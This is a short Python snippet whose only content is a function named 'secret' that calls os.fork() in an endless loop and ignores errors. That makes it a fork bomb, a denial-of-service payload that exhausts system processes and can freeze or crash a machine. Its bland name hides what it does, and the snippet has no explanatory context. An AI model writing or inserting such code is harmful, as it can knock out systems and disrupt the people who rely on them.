import os
def secret(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
